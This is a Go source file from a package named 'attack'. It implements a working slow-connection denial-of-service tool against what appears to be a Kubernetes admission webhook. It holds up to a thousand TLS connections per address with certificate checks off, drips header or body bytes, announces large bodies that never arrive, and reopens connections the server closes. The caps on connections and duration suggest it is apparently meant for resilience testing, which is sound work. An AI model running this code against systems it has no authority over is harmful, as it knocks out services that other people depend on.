package attack

import (
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"maps"
	"math/rand/v2"
	"net"
	"slices"
	"sync"
	"time"
)

const (
	// holdConnections and holdTime bound a Hold.
	holdConnections = 1000
	holdTime        = 5 * time.Minute
	// handshakeTimeout is more than a server gives a handshake.
	handshakeTimeout = 10 * time.Second
	// dripEvery is the time between two bytes of what is slow.
	dripEvery = 250 * time.Millisecond
	// comeBack is the longest time until a connection that was closed is opened again; half of it on average.
	comeBack = 3 * time.Second
	// announced is the Content-Length of bodies of which little comes, within what the webhook reads.
	announced = 4 << 20
)

// Hold opens connections to a webhook and keeps them, as a caller that is not an API server.
type Hold struct {
	// Kind is one of HoldKinds.
	Kind string
	// Addresses are the servers (host:port). Their certificates are not verified.
	Addresses []string
	// Connections is how many there are at once to each address, at most 1000.
	Connections int
	// Time is for how long, at most five minutes.
	Time time.Duration
}

// Held is what became of a Hold.
type Held struct {
	// Opened is the number of connections that were opened, those that came again included.
	Opened int `json:"opened"`
	// Failed is the number of those that could not be opened.
	Failed int `json:"failed"`
	// Most is how many were open at once.
	Most int `json:"most"`
}

const webhookRequest = "POST /mutate?timeout=30s HTTP/1.1\r\nHost: webhook\r\nContent-Type: application/json\r\n"

// holds are what is sent once, and the byte that comes again and again afterwards, if any.
var holds = map[string]struct {
	first string
	drip  string
}{
	"slow-headers": {first: webhookRequest + "A: ", drip: "a"},
	"slow-bodies":  {first: fmt.Sprintf("%sContent-Length: %d\r\n\r\n{", webhookRequest, announced), drip: " "},
	"half-bodies":  {first: webhookRequest + "Content-Length: 60000\r\n\r\n" + string(slices.Repeat([]byte(" "), 30000))},
	"no-bodies":    {first: fmt.Sprintf("%sContent-Length: %d\r\n\r\n", webhookRequest, announced)},
}

// HoldKinds returns the kinds of Hold, sorted.
func HoldKinds() []string { return slices.Sorted(maps.Keys(holds)) }

func (h *Hold) validate() error {
	switch {
	case holds[h.Kind].first == "":
		return fmt.Errorf("kind %q is not one of %q", h.Kind, HoldKinds())
	case len(h.Addresses) == 0:
		return fmt.Errorf("no address (host:port)")
	case h.Connections < 1 || h.Connections > holdConnections:
		return fmt.Errorf("%d connections are not between 1 and %d", h.Connections, holdConnections)
	case h.Time <= 0 || h.Time > holdTime:
		return fmt.Errorf("time %s is not between 0s and %s", h.Time, holdTime)
	}
	return nil
}

// Run holds the connections. Those that the server closes are opened again after a moment.
func (h *Hold) Run(ctx context.Context) (Held, error) {
	if err := h.validate(); err != nil {
		return Held{}, err
	}
	ctx, cancel := context.WithTimeout(ctx, h.Time)
	defer cancel()
	var (
		mu   sync.Mutex
		held Held
		open int
		all  sync.WaitGroup
	)
	count := func(change func()) {
		mu.Lock()
		defer mu.Unlock()
		change()
	}
	for _, address := range h.Addresses {
		for range h.Connections {
			all.Go(func() {
				// Not all at once, also the first time: the machine shakes hands for both sides.
				for pause(ctx, rand.N(comeBack)) { //nolint:gosec // no secret
					connection, err := dialTLS(ctx, address)
					if err != nil {
						if ctx.Err() == nil {
							count(func() { held.Failed++ })
						}
						continue
					}
					count(func() { held.Opened++; open++; held.Most = max(held.Most, open) })
					h.hold(ctx, connection)
					count(func() { open-- })
				}
			})
		}
	}
	all.Wait()
	return held, nil
}

// hold keeps one connection until the server closes it, or ctx is done.
func (h *Hold) hold(ctx context.Context, connection net.Conn) {
	ctx, cancel := context.WithCancel(ctx)
	defer cancel()
	context.AfterFunc(ctx, func() { _ = connection.Close() })
	kind := holds[h.Kind]
	if _, err := io.WriteString(connection, kind.first); err != nil {
		return
	}
	if kind.drip != "" {
		go func() {
			for pause(ctx, dripEvery) {
				if _, err := io.WriteString(connection, kind.drip); err != nil {
					return
				}
			}
		}()
	}
	_, _ = io.Copy(io.Discard, connection)
}

func dialTLS(ctx context.Context, address string) (net.Conn, error) {
	ctx, cancel := context.WithTimeout(ctx, handshakeTimeout)
	defer cancel()
	dialer := tls.Dialer{Config: &tls.Config{InsecureSkipVerify: true}} //nolint:gosec // who attacks does not care who it is
	return dialer.DialContext(ctx, "tcp", address)
}

// pause reports whether the time has passed before ctx was done.
func pause(ctx context.Context, d time.Duration) bool {
	select {
	case <-ctx.Done():
		return false
	case <-time.After(d):
		return true
	}
}
